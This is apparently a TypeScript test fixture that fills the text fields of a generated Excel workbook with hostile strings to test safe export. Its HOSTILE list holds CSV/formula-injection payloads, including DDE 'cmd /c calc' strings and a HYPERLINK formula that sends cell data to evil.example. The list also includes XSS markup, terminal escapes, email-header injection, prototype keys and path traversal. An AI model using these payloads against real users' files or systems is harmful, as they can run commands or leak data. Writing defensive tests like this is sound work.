/** A workbook whose every text is hostile: formulas, markup, control characters, links, prototype keys, paths. */
import { buildWorkbook } from '../../src/app/build-workbook';
import { createContent } from '../../src/app/create-workbook';
import { makeContent } from '../../src/app/make-content';
import { measure } from '../../src/app/measure';
import { readProfile } from '../../src/app/profile';
import { loadStandard } from '../../src/app/standard';
import type { CellValue } from '../../src/core/model/cell';
import { FIRST_DATA_ROW } from '../../src/core/model/raw-sheet';
import { createXlsxFormat } from '../../src/host/xlsx/format';
import { blocksOf } from './workbook-spec';

export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\'/c calc\'!A0', '-2+3+cmd|\'/c calc\'!A0', '@SUM(1+1)*cmd|\'/c calc\'!A0', '\t=evil()', '＝evil()',
  '<script>evil()</script><img src=x onerror=evil()>', '"><a href="javascript:evil()">evil</a>', '</w:t></w:r><w:hyperlink r:id="evil"/>', ']]><f>evil()</f>', '&evil;',
  '\u001b]0;evil\u0007\u009b31m', '甲\r\nBcc: evil@example.com', '__proto__', 'constructor', '../../evil', '$&evil$1', '{file}', '\u202eevil',
];
export const PERIODS = '{ "periods": { "baseline": ["2023-01-01", "2023-12-31"], "current": ["2024-01-01", "2024-12-31"] }, "asOf": "2024-12-31" }';
const standard = loadStandard();

/** Every text field of every form, and a raw-data sheet, filled by `text`. */
export async function workbookOf(text: (n: number) => string): Promise<Uint8Array> {
  const created = createContent(readProfile(PERIODS), '客户,附录A 需求调研,附录B 交流座谈表,附录C 质量体检表,附录D 问题诊断表,附录E 提升方案,附录F 提升案例,成效总结,方案实施,工作计划,基本要求,记录目录', standard);
  let n = 0;
  const entries = Object.fromEntries(Object.entries(standard.fields).filter(([key]) => created.chosen.includes(key)).map(([key, fields]) =>
    [key, { ...Object.fromEntries(fields.filter(({ kind }) => kind === 'text').map((field): [string, CellValue] => [field.key, text(n++)])), ...created.entries[key] }]));
  const rows = { customers: blocksOf(['customer', 'firstDeal'], FIRST_DATA_ROW, HOSTILE.map((_, i) => [text(i), 45_300])) };
  const content = makeContent({ ...created, entries, rows, side: {} });
  return createXlsxFormat().write(buildWorkbook(content, standard, measure(content)));
}

export const hostile = (n: number): string => HOSTILE[n % HOSTILE.length] ?? '';
